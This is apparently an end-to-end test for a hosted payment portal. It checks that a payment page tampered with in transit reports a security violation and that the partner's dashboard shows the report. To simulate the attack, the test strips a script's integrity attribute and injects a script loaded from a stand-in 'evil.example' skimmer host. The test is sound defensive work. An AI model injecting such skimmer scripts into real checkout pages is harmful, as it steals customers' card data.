import { ask } from '../../backend.ts';
import { makeLink, ownAmount, test } from '../../hosted-page.ts';
import { expect } from '../../portal-test.ts';

interface Incidents {
  items: { kind: string; source: string }[];
}

// What was changed breaks the page's own policy, and browsers say so.
test.use({ expectedErrors: [/Content Security Policy|integrity/i] });

test('a page that was written anew on its way reports itself, and the portal shows it on the link', async ({
  page,
  signIn,
  newCustomer,
}) => {
  await signIn('partner.demo');
  const link = await makeLink(page, { amount: ownAmount() });
  const theirs = await newCustomer();
  await theirs.route(`**/pay/${link.code}`, async (route) => {
    const answer = await route.fetch();
    const body = (await answer.text())
      .replace(/(<script defer[^>]*) integrity="[^"]*"/, '$1')
      .replace('</head>', '<script src="https://evil.example/skimmer.js?card=1"></script></head>');
    await route.fulfill({ response: answer, body });
  });
  const reported = theirs.waitForResponse(/\/report$/);
  await theirs.goto(`/pay/${link.code}`);
  expect((await reported).status()).toBe(204);
  const skimmer = 'https://evil.example/skimmer.js';
  // Each report is on its own way.
  const told = async () => {
    const { items } = await ask<Incidents>(page, `hosted-payment/link/incidents?id=${link.id}`);
    return items.flatMap(({ kind, source }) => [kind, source]);
  };
  await expect.poll(told).toEqual(expect.arrayContaining(['integrity', skimmer]));
  await page.goto(`/hosted-payment/links/${link.id}`);
  const panel = page.getByRole('region', { name: 'Page security reports' });
  await expect(panel.getByText(skimmer).first()).toBeVisible();
  await expect(panel.getByText(/Page script without its proof/)).toBeVisible();
});
